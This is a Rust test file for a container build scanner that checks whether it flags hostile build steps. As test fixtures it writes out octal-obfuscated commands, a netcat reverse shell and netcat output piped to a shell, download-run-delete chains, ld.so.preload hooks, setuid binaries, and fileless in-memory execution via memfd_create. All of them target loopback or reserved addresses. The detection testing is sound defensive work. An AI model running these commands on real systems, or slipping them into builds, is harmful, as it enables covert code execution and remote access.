//! What steps did, judged: each rule of the moment *behaviour* on a step that breaks it, whatever its
//! text says, as every kind of user; and what becomes of a step that nobody watched.

#![allow(unsafe_code, reason = "a hostile program makes raw system calls")]

use std::collections::BTreeSet;
use std::fs;
use std::io::{Read, Write};
use std::net::TcpListener;
use std::os::unix::ffi::OsStrExt;
use std::time::Instant;

use serde_json::Value;

use crate::harness::{Build, Outcome, Place, Who};

/// What a step does as a hostile program: this test program, in a bind mount.
const WHAT: &str = "BEHAVES";

/// Not a test of its own: what a step runs.
#[test]
fn inside() {
    let Ok(what) = std::env::var(WHAT) else { return };
    match what.as_str() {
        // SAFETY: both calls take numbers, and are refused.
        "ptrace" => unsafe {
            libc::ptrace(libc::PTRACE_ATTACH, 1, 0, 0);
            libc::ptrace(libc::PTRACE_TRACEME, 0, 0, 0);
        },
        "peek" => {
            let mut own = [0u8; 8];
            let other = [7u8; 8];
            let local = libc::iovec { iov_base: own.as_mut_ptr().cast(), iov_len: 8 };
            let remote = libc::iovec { iov_base: other.as_ptr().cast_mut().cast(), iov_len: 8 };
            // SAFETY: both point to eight bytes of this process.
            let read = unsafe { libc::process_vm_readv(libc::getpid(), &local, 1, &remote, 1, 0) };
            assert_eq!((read, own), (8, other), "a look into oneself passes");
            // SAFETY: the same, of another process.
            let read = unsafe { libc::process_vm_readv(1, &local, 1, &remote, 1, 0) };
            assert_eq!(read, -1);
        }
        // SAFETY: the call takes a number, and is refused.
        "unshare" => unsafe {
            assert_eq!(libc::unshare(libc::CLONE_NEWUSER), -1);
            let error = std::io::Error::last_os_error();
            assert_eq!(error.raw_os_error(), Some(libc::EPERM));
        },
        // SAFETY: the calls take numbers, and are refused or unknown.
        "module" => unsafe {
            assert_eq!(libc::syscall(libc::SYS_finit_module, -1, 0, 0), -1);
            assert_eq!(libc::syscall(libc::SYS_io_uring_setup, 1, 0), -1);
            let error = std::io::Error::last_os_error();
            assert_eq!(error.raw_os_error(), Some(libc::ENOSYS), "unknown, as without an audit");
        },
        "docker" => {
            let _ = std::os::unix::net::UnixStream::connect("/run/docker.sock");
        }
        "memory" => {
            // SAFETY: the name is a text with an end.
            let fd = unsafe { libc::memfd_create(c"x".as_ptr(), 0) };
            let path = format!("/proc/self/fd/{fd}");
            fs::write(&path, fs::read("/bin/busybox").expect("busybox")).expect("a file in memory");
            let path =
                std::ffi::CString::new(std::ffi::OsStr::new(&path).as_bytes()).expect("a path");
            let argv = [c"true".as_ptr(), std::ptr::null()];
            // SAFETY: path and arguments are texts with ends, the lists end with nothing.
            unsafe { libc::execve(path.as_ptr(), argv.as_ptr(), argv[1..].as_ptr().cast()) };
            panic!("it should run: {}", std::io::Error::last_os_error());
        }
        other => panic!("unknown: {other}"),
    }
}

/// A server on loopback, which gives everybody a script: in an answer of HTTP, or as it is.
fn server(http: bool) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").expect("a port");
    let port = listener.local_addr().expect("an address").port();
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let Ok(mut stream) = stream else { continue };
            let script = "#!/bin/sh\n/bin/echo from elsewhere\n";
            if !http {
                let _ = stream.write_all(script.as_bytes());
                continue;
            }
            let mut asked = Vec::new();
            let mut piece = [0u8; 1024];
            while !asked.ends_with(b"\r\n\r\n") {
                match stream.read(&mut piece) {
                    Ok(read) if read > 0 => asked.extend_from_slice(&piece[..read]),
                    _ => break,
                }
            }
            let head = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n", script.len());
            let _ = stream.write_all(format!("{head}{script}").as_bytes());
        }
    });
    port
}

/// Rules and lines of what a build found.
fn findings(place: &Place) -> BTreeSet<(u64, String)> {
    let report = fs::read(place.at("report.json")).expect("it is written");
    let report: Value = serde_json::from_slice(&report).expect("JSON");
    let list = report["findings"].as_array().expect("a list").clone();
    list.iter()
        .map(|one| {
            let line = one["span"]["line"].as_u64().unwrap_or(0);
            (line, one["rule"].as_str().expect("an id").to_owned())
        })
        .collect()
}

fn finding(place: &Place, rule: &str, line: u64) -> Value {
    let report = fs::read(place.at("report.json")).expect("it is written");
    let report: Value = serde_json::from_slice(&report).expect("JSON");
    let list = report["findings"].as_array().expect("a list");
    let mut fits =
        list.iter().filter(|one| one["rule"] == rule && one["span"]["line"].as_u64() == Some(line));
    fits.next().unwrap_or_else(|| panic!("no {rule} in line {line}: {list:#?}")).clone()
}

fn judged<'a>(place: &'a Place, text: &str) -> Build<'a> {
    let report = format!("--report=json={}", place.at("report.json").display());
    Build::text(place, text).policy(Some("hardened")).arg(report)
}

fn hostile(place: &Place) {
    let program = place.at("ctx/hostile");
    fs::copy(std::env::current_exe().expect("this program"), &program).expect("a copy");
}

/// All rules that look at what steps did.
const RULES: &[&str] = &[
    "build-secret-printed",
    "exec-failed",
    "exec-from-scratch-dir",
    "fileless-exec",
    "kernel-module-attempted",
    "kernel-surface-attempted",
    "loader-hook-written",
    "network-destination",
    "network-in-final",
    "process-left-behind",
    "ptrace-attempted",
    "setuid-executed",
    "step-resource-budget",
    "docker-socket",
    "download-executed-unverified",
    "package-install-in-final",
    "pipe-to-interpreter",
    "privilege-tool-used",
    "reverse-shell",
    "self-erasing-payload",
];

#[test]
fn each_rule_finds_its_step_whatever_the_text_says() {
    let (port, web) = (server(false), server(true));
    let hostile_step = |what: &str| {
        format!(
            "--mount=source=hostile,target=/hostile {WHAT}={what} /hostile --exact \
             behaviour::inside --nocapture --test-threads=1"
        )
    };
    // A text that nobody can read before it runs.
    let hidden = |text: &str| {
        let octal: String = text.bytes().map(|byte| format!("\\{byte:03o}")).collect();
        format!("/bin/sh -c \"$(printf '{octal}')\"")
    };
    let steps: Vec<(String, &[&str])> = vec![
        ("--mount=type=secret,id=t /bin/cat /run/secrets/t".into(), &["build-secret-printed"]),
        ("curl -f http://192.0.2.1/ || true".into(), &["exec-failed", "network-in-final"]),
        ("/bin/env no-such-program || true".into(), &["exec-failed"]),
        (
            "cp /bin/busybox /tmp/busybox-x && /tmp/busybox-x true".into(),
            &["exec-from-scratch-dir"],
        ),
        (
            "printf '#!/bin/sh\\necho x\\n' > /tmp/y && chmod +x /tmp/y && /tmp/y".into(),
            &["exec-from-scratch-dir"],
        ),
        (hostile_step("memory"), &["fileless-exec"]),
        (
            "cp /bin/busybox /dev/shm/busybox-x && /dev/shm/busybox-x true".into(),
            &["exec-from-scratch-dir", "fileless-exec"],
        ),
        (hostile_step("module"), &["kernel-module-attempted", "kernel-surface-attempted"]),
        ("modprobe dummy || true".into(), &["kernel-module-attempted"]),
        (
            "/bin/mount -t tmpfs none /tmp || true".into(),
            &["exec-failed", "kernel-surface-attempted"],
        ),
        (hostile_step("unshare"), &["kernel-surface-attempted"]),
        ("echo /lib/x.so > /etc/ld.so.preload".into(), &["loader-hook-written"]),
        ("rm /etc/ld.so.preload; echo x > /etc/app.conf".into(), &[]),
        (
            "--network=none /bin/nc -w 1 192.0.2.1 3333 || true".into(),
            &["network-destination", "network-in-final"],
        ),
        ("--network=none /bin/nc -w 1 127.0.0.1 9 || true".into(), &[]),
        ("sleep 60 &".into(), &["process-left-behind"]),
        ("sleep 0 & wait".into(), &[]),
        (hostile_step("ptrace"), &["ptrace-attempted"]),
        (hostile_step("peek"), &["ptrace-attempted"]),
        (
            "cp /bin/busybox /busybox-su && chmod u+s /busybox-su && /busybox-su true".into(),
            &["setuid-executed"],
        ),
        ("i=0; while [ $i -lt 400000 ]; do i=$((i+1)); done".into(), &["step-resource-budget"]),
        (hostile_step("docker"), &["docker-socket"]),
        ("for name in wget apk sudo; do ln -s busybox /bin/$name; done".into(), &[]),
        (
            hidden(&format!("/bin/wget -q http://127.0.0.1:{web}/p -O /p; /bin/sh /p")),
            &["download-executed-unverified"],
        ),
        (
            hidden(&format!("/bin/wget -q http://127.0.0.1:{web}/p -O /q; /bin/sh /q; rm /q")),
            &["download-executed-unverified", "self-erasing-payload"],
        ),
        (
            hidden(&format!(
                "/bin/wget -q http://127.0.0.1:{web}/p -O /r; /bin/sha256sum /r | /bin/grep -q . && \
             /bin/sh /r; rm /r"
            )),
            &[],
        ),
        (
            hidden(
                "/bin/rm /bin/apk; printf '#!/bin/sh\\n' > /bin/apk; chmod +x /bin/apk; \
                 /bin/apk add curl",
            ),
            &["package-install-in-final"],
        ),
        (
            hidden(&format!("/bin/nc 127.0.0.1 {port} | /bin/cat | /bin/sh")),
            &["pipe-to-interpreter"],
        ),
        (hidden(&format!("/bin/nc 127.0.0.1 {port} | /bin/cat > /data")), &[]),
        (
            hidden(
                "printf '#!/bin/sh\\n' > /tool; cp /tool /bin/doas; chmod +x /bin/doas; \
                 /bin/doas true",
            ),
            &["privilege-tool-used"],
        ),
        (hidden(&format!("/bin/nc 127.0.0.1 {port} -e /bin/sh")), &["reverse-shell"]),
    ];
    let mut text = String::from("FROM busybox\n");
    for (step, _) in &steps {
        text.push_str(&format!("RUN {step}\n"));
    }
    for who in Who::every() {
        let place = Place::new(who);
        hostile(&place);
        let secret = place.file("token", "behaves-S3cret-Value/77");
        let mut build = judged(&place, &text)
            .arg("--fail-on=never")
            .arg("--set=network.allow=[\"*.debian.org:80\"]")
            .arg("--set=rules.step-resource-budget.cpu=\"300ms\"")
            .arg("--jobs=1")
            .arg(format!("--secret=id=t,src={}", secret.display()));
        for rule in RULES {
            build = build.arg(format!("--only={rule}"));
        }
        let outcome = build.limit(300).run();
        outcome.digest();
        let mut want = BTreeSet::new();
        for (line, (step, rules)) in (2..).zip(&steps) {
            for rule in *rules {
                // That a program (of mount, its helper) was asked for in vain is not seen there, but
                // what a shell says is.
                if who == Who::Single && *rule == "exec-failed" && !step.contains("curl") {
                    continue;
                }
                want.insert((line, (*rule).to_owned()));
            }
        }
        let mut found = findings(&place);
        // What all of it takes differs from machine to machine.
        found.retain(|(line, rule)| {
            rule != "step-resource-budget" || want.contains(&(*line, rule.clone()))
        });
        let step = |line: u64| &steps[line as usize - 2].0;
        let missing: Vec<_> = want.difference(&found).map(|(l, r)| (r, step(*l))).collect();
        let wrong: Vec<_> = found.difference(&want).map(|(l, r)| (r, step(*l))).collect();
        assert!(
            missing.is_empty() && wrong.is_empty(),
            "{who:?}: missing {missing:#?}\nwrong {wrong:#?}\n{}",
            outcome.story()
        );
        let pipe = (2..).zip(&steps).find(|(_, (_, rules))| rules.contains(&"pipe-to-interpreter"));
        let one = finding(&place, "pipe-to-interpreter", pipe.expect("it is there").0);
        let chain = one["evidence"]["chain"].as_array().expect("the chain of programs");
        assert_eq!(chain.len(), 3, "the step's shell, the hidden one, the interpreter: {one}");
        assert!(one["message"].as_str().expect("a text").contains("`nc`"), "{one}");
        let skipped = fs::read_to_string(place.at("report.json")).expect("it is written");
        let says = skipped.contains("are not seen with a single id");
        assert_eq!(says, who == Who::Single, "what is not seen is skipped");
    }
}

#[test]
fn an_error_ends_the_build_at_its_step_and_nothing_of_it_is_kept() {
    let place = Place::new(Who::usual());
    let text = "FROM busybox\nRUN echo /lib/x.so > /etc/ld.so.preload\n\
                RUN echo it went | sed 's/$/ on/'\nUSER 10001\n";
    let check = |outcome: Outcome| {
        let err = outcome.fails(1, &["loader-hook-written", "Dockerfile:2:1", "ld.so.preload"]);
        assert!(!err.contains("it went on"), "{err}");
    };
    // Without an audit, too: this is seen in what the step wrote.
    check(judged(&place, text).arg("--only=loader-hook-written").run());
    assert_eq!(findings(&place), BTreeSet::from([(2, "loader-hook-written".to_owned())]));
    // Its layer was not kept: the step runs again.
    let again = judged(&place, text).arg("--only=loader-hook-written").run();
    assert!(!again.err().contains("[stage-0 1/2] CACHED"), "{}", again.story());
    check(again);
    // Where the policy suffers it, it is kept; and is found again.
    judged(&place, text).policy(Some("none")).run().digest();
    let _ = fs::remove_dir_all(place.at("image.oci"));
    check(judged(&place, text).arg("--only=loader-hook-written").run());
    // A comment covers it, as it covers what the text shows.
    let text =
        text.replace("RUN echo /lib", "# rbuild: allow loader-hook-written -- test\nRUN echo /lib");
    judged(&place, &text).arg("--only=loader-hook-written").run().digest();
}

#[test]
fn steps_that_nobody_watched_are_skipped_and_an_error_where_it_is_required() {
    let place = Place::new(Who::usual());
    let text =
        "FROM busybox\nRUN cp /bin/busybox /tmp/busybox-x && /tmp/busybox-x true\nUSER 10001\n";
    let skipped = |rule: &str| {
        let report = fs::read(place.at("report.json")).expect("it is written");
        let report: Value = serde_json::from_slice(&report).expect("JSON");
        let list = report["skipped"].as_array().expect("a list").clone();
        list.iter().find(|one| one["rule"] == rule).map(|one| one["reason"].clone())
    };
    // By itself, nothing is watched; the rules say so.
    let outcome = judged(&place, text).run();
    outcome.digest();
    assert_eq!(skipped("fileless-exec"), Some("steps were not watched: --audit=exec".into()));
    assert_eq!(skipped("pipe-to-interpreter"), None, "it has looked at the text");
    assert!(!outcome.err().contains("audit: "), "{}", outcome.story());
    let _ = fs::remove_dir_all(place.at("image.oci"));
    // Who names such a rule wants it to look: what the store has of nobody's watching does not do.
    let only = judged(&place, text).arg("--only=fileless-exec,final-user-root").run();
    only.says(&["nobody watched it when it ran", "audit: "]);
    assert_eq!((skipped("fileless-exec"), findings(&place)), (None, BTreeSet::new()));
    let _ = fs::remove_dir_all(place.at("image.oci"));
    // Where it is required, not to have looked is an error.
    let required = judged(&place, text).arg("--set=behaviour=required");
    required
        .arg("--audit=none")
        .run()
        .fails(1, &["what this step did is not known", "Dockerfile:2:1"]);
    judged(&place, text).arg("--set=behaviour=required").run().digest();
    let _ = fs::remove_dir_all(place.at("image.oci"));
    judged(&place, text).arg("--set=behaviour=off").arg("--audit=exec").run().digest();
    let off = skipped("fileless-exec").expect("it did not look");
    assert_eq!(off, "the policy does not look at what steps do");
}

#[test]
fn the_stage_that_ships_has_no_network_where_that_is_denied() {
    let place = Place::new(Who::usual());
    let port = server(false);
    let ask = format!("nc -w 2 127.0.0.1 {port} > /answer < /dev/null || true");
    let text = format!(
        "FROM busybox AS build\nRUN {ask}\nFROM busybox\nCOPY --from=build /answer /built\n\
         RUN touch /answer; {ask}\nUSER 10001\n"
    );
    let build = |enforce: &str| {
        judged(&place, &text)
            .arg("--only=network-in-final")
            .arg(format!("--set=rules.network-in-final.enforce={enforce}"))
    };
    let (_, image) = build("deny").image();
    assert!(image.text("built").contains("from elsewhere"));
    assert_eq!(image.text("answer"), "", "a loopback of its own");
    let _ = fs::remove_dir_all(place.at("image.oci"));
    let (_, image) = build("observe").image();
    assert!(image.text("answer").contains("from elsewhere"));
}

#[test]
fn a_step_that_comes_out_otherwise_is_told_with_its_files() {
    for who in Who::every() {
        let place = Place::new(who);
        let text = "FROM busybox\nRUN echo 1 > /stamp\nRUN date +%s%N > /stamp; echo > /log.$(date +%s)\n\
                    RUN hostname > /name\n";
        let build = |flag: &str| {
            let rule = "--set=rules.step-not-reproducible=error";
            judged(&place, text).arg(rule).arg("--only=step-not-reproducible").arg(flag)
        };
        // Without a second run nothing is known, and the results go into the store.
        let once = build("--jobs=1").run();
        once.digest();
        let _ = fs::remove_dir_all(place.at("image.oci"));
        let err = build("--verify").run().fails(1, &["Dockerfile:3:1", "/stamp", "(the content)"]);
        assert!(err.contains("(the name)"), "{err}");
        let fail_on = build("--verify").arg("--fail-on=never").run();
        fail_on.digest();
        let lines: Vec<u64> = findings(&place).into_iter().map(|(line, _)| line).collect();
        assert_eq!(lines, [3, 4], "the clock and the host's name; {}", fail_on.story());
        let image = fail_on.image();
        assert!(image.text("name").starts_with("buildkitsandbox"), "the first run counts");
        // What is known of it is kept.
        let _ = fs::remove_dir_all(place.at("image.oci"));
        let again = build("--verify").arg("--fail-on=never").run();
        again.says(&["[stage-0 3/3] CACHED", "/stamp"]);
    }
}

#[test]
fn a_step_that_waits_for_its_turn_does_not_take_longer() {
    let place = Place::new(Who::usual());
    let text = "FROM busybox AS a\nRUN sleep 2 && touch /a\nFROM busybox AS b\nRUN sleep 2 && touch /b\n\
                FROM busybox\nCOPY --from=a /a /\nCOPY --from=b /b /\n";
    let rule = "step-resource-budget";
    let since = Instant::now();
    judged(&place, text)
        .arg("--jobs=1")
        .arg(format!("--only={rule}"))
        .arg(format!("--set=rules.{rule}.wall=\"1s\""))
        .arg("--fail-on=never")
        .run()
        .digest();
    let all = since.elapsed().as_millis();
    let wall = |line| finding(&place, rule, line)["evidence"]["wall_ms"].as_u64().expect("a time");
    let (one, other) = (wall(2), wall(4));
    assert!(one >= 2000 && other >= 2000, "{one} {other}");
    // One at a time: together they are no longer than the build, however busy the machine is.
    assert!(u128::from(one + other) <= all, "{one} + {other} of {all} ms");
}
